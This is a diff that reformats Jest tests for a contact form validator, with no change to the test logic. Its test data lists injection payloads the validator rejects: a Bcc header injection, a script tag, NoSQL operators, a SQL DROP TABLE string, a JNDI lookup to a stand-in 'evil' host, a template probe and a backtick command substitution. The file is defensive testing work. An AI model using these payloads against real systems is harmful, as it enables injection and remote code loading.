@@ -52,12 +52,20 @@ describe('contact message rules', () => {
     expect(fieldsIn({ name: '   ', email: '\t', message: ' \n ' })).toEqual(['name', 'email', 'message']);
   });
 
-  it.each(['ana', 'ana@', '@agency.com', 'ana@agency', 'ana@agency.c', 'ana @agency.com', 'ana@agency..com', 'ana@-agency.com', 'ana@agency.com.', 'ana@agency.com\nBcc: all@agency.com'])(
-    'refuses the bad email %j',
-    (email) => {
-      expect(check({ ...VALID, email })).toEqual([{ field: 'email', message: 'Please enter a valid email address, like name@company.com.' }]);
-    },
-  );
+  it.each([
+    'ana',
+    'ana@',
+    '@agency.com',
+    'ana@agency',
+    'ana@agency.c',
+    'ana @agency.com',
+    'ana@agency..com',
+    'ana@-agency.com',
+    'ana@agency.com.',
+    'ana@agency.com\nBcc: all@agency.com',
+  ])('refuses the bad email %j', (email) => {
+    expect(check({ ...VALID, email })).toEqual([{ field: 'email', message: 'Please enter a valid email address, like name@company.com.' }]);
+  });
 
   it.each(['12345', '555-CALL-NOW', '+1 555 010 0199 ext. 12', '++15550100199', '1'.repeat(CONTACT_LIMITS.phoneNumber + 1)])(
     'refuses the bad phone number %j',
@@ -76,7 +84,9 @@ describe('contact message rules', () => {
       expect(atLimit.email).toHaveLength(CONTACT_LIMITS.email);
       expect(check(atLimit)).toEqual([]);
 
-      expect(check({ ...VALID, name: 'a'.repeat(CONTACT_LIMITS.name + 1) })).toEqual([{ field: 'name', message: 'Name must be at most 100 characters.' }]);
+      expect(check({ ...VALID, name: 'a'.repeat(CONTACT_LIMITS.name + 1) })).toEqual([
+        { field: 'name', message: 'Name must be at most 100 characters.' },
+      ]);
       expect(fieldsIn({ ...VALID, email: `x${atLimit.email}` })).toEqual(['email']);
       expect(check({ ...VALID, message: 'm'.repeat(CONTACT_LIMITS.message + 1) })).toEqual([
         { field: 'message', message: 'Message must be at most 5000 characters.' },
@@ -96,23 +106,35 @@ describe('contact message rules', () => {
       expect(check({ ...VALID, message })).toEqual([{ field: 'message', message: 'Message cannot contain HTML or script markup.' }]);
     });
 
-    it.each(['We have < a dozen recruiters and <3 your product', 'Budget is <5k, margin > 20%', 'Use {"$gt":""} as the filter?', "Robert'); DROP TABLE contacts;--"])(
-      'keeps plain text that only looks suspicious in the message: %j',
-      (message) => {
-        expect(check({ ...VALID, message })).toEqual([]);
-      },
-    );
+    it.each([
+      'We have < a dozen recruiters and <3 your product',
+      'Budget is <5k, margin > 20%',
+      'Use {"$gt":""} as the filter?',
+      "Robert'); DROP TABLE contacts;--",
+    ])('keeps plain text that only looks suspicious in the message: %j', (message) => {
+      expect(check({ ...VALID, message })).toEqual([]);
+    });
 
-    it.each(['<script>alert(1)</script>', '{"$gt":""}', "Robert'); DROP TABLE contacts;--", '${jndi:ldap://evil/a}', '[[7*7]]', 'Ana `id`', 'Ana\\Souza'])(
-      'refuses symbols used for injection in the name: %j',
-      (name) => {
-        expect(fieldsIn({ ...VALID, name })).toEqual(['name']);
-      },
-    );
+    it.each([
+      '<script>alert(1)</script>',
+      '{"$gt":""}',
+      "Robert'); DROP TABLE contacts;--",
+      '${jndi:ldap://evil/a}',
+      '[[7*7]]',
+      'Ana `id`',
+      'Ana\\Souza',
+    ])('refuses symbols used for injection in the name: %j', (name) => {
+      expect(fieldsIn({ ...VALID, name })).toEqual(['name']);
+    });
 
     it('refuses values that are not strings (NoSQL operator objects, numbers, arrays)', () => {
       expect(
-        check({ name: { $ne: null }, email: { $gt: '' }, phoneNumber: { $exists: true }, message: ['<script>'] } as unknown as ContactInputFields),
+        check({
+          name: { $ne: null },
+          email: { $gt: '' },
+          phoneNumber: { $exists: true },
+          message: ['<script>'],
+        } as unknown as ContactInputFields),
       ).toEqual([
         { field: 'name', message: 'Please enter your name.' },
         { field: 'email', message: 'Please enter your email address.' },
